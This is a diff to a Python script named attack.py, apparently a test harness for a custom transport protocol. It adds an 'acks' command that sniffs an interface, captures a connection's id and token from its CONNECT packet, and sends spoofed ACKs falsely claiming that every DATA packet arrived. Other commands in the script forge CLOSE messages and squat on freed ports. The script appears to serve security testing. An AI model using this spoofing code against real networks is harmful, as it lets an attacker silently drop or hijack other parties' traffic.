@@ -17,6 +17,13 @@ attack of issue 15 and prints one JSON line of what came back.
                                       CLOSE claiming everything arrived, from
                                       our own address or spoofed as the
                                       listener's control socket
+  attack.py acks IFACE [--secs S] [--ready FILE]
+                                      on path: learn a connection from its
+                                      CONNECT on IFACE, then answer each of
+                                      the requester's DATA packets seen
+                                      there with a forged ACK (spoofed as
+                                      the listener's data port) claiming it
+                                      arrived; for S seconds after the first
   attack.py squat PORT SECS [--ready F]  bind PORT (no mark) as soon as it
                                       is free, hold it SECS
 
@@ -29,6 +36,7 @@ import time
 
 import rawnet
 import xrctrl
+import xrdata
 
 
 def _answers(s, until, on_msg=None):
@@ -147,6 +155,41 @@ def cmd_close(a):
             'as': a.as_}
 
 
+def cmd_acks(a):
+    """Learn the requester's connection id and token from its CONNECT,
+    then claim delivery of every DATA packet it sends: per path, a
+    cumulative ACK up to the packet, and the connection's CSN past it."""
+    st = {'forged': 0, 'data': 0}
+    rx = {}   # path -> packets acknowledged
+
+    def want(src, sport, dst, dport, payload):
+        if dport == xrctrl.CTRL_PORT:
+            m = xrctrl.unpack(payload)
+            if m and m['op'] == xrctrl.CONNECT and 'req' not in st:
+                st['req'] = (src, m)
+            return False
+        d = xrdata.parse_data(payload)
+        if not d or 'req' not in st or src != st['req'][0]:
+            return False
+        if 'until' not in st:
+            st['until'] = time.monotonic() + a.secs
+        st['data'] += 1
+        req = st['req'][1]
+        csn = max(st.get('csn', 0), (d['csn'] + 1) & 0xffffffff)
+        st['csn'] = csn
+        rx[d['path']] = rx.get(d['path'], 0) + 1
+        ack = xrdata.pack_ack(path=d['path'], dst_conn=req['src_conn'], token=req['rx_token'],
+                              cack=(d['psn'] + 1) & 0xffffffff, ack_psn=d['psn'],
+                              ts_echo=d['ts'], rx_pkts=rx[d['path']], csn_cum=csn)
+        rawnet.send_spoofed(dst, dport, src, sport, ack)
+        st['forged'] += 1
+        return time.monotonic() > st['until']
+
+    deadline = time.monotonic() + a.wait
+    rawnet.sniff(a.iface, deadline, want, a.ready)
+    return {'seen': 'req' in st, 'data': st['data'], 'forged': st['forged']}
+
+
 def cmd_squat(a):
     """Bind PORT as soon as it is free (the owner died), then hold it."""
     s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
@@ -189,6 +232,11 @@ def main():
     c.add_argument('--as', dest='as_', choices=('own', 'listener'), required=True)
     c.add_argument('--delay', type=float, default=0.3)
     c.add_argument('--wait', type=float, default=15.0)
+    c.add_argument('--ready', help='file created once it watches')
+    c = sub.add_parser('acks')
+    c.add_argument('iface')
+    c.add_argument('--secs', type=float, default=8.0)
+    c.add_argument('--wait', type=float, default=30.0)
     c.add_argument('--ready', help='file created once it watches')
     c = sub.add_parser('squat')
     c.add_argument('port', type=int)
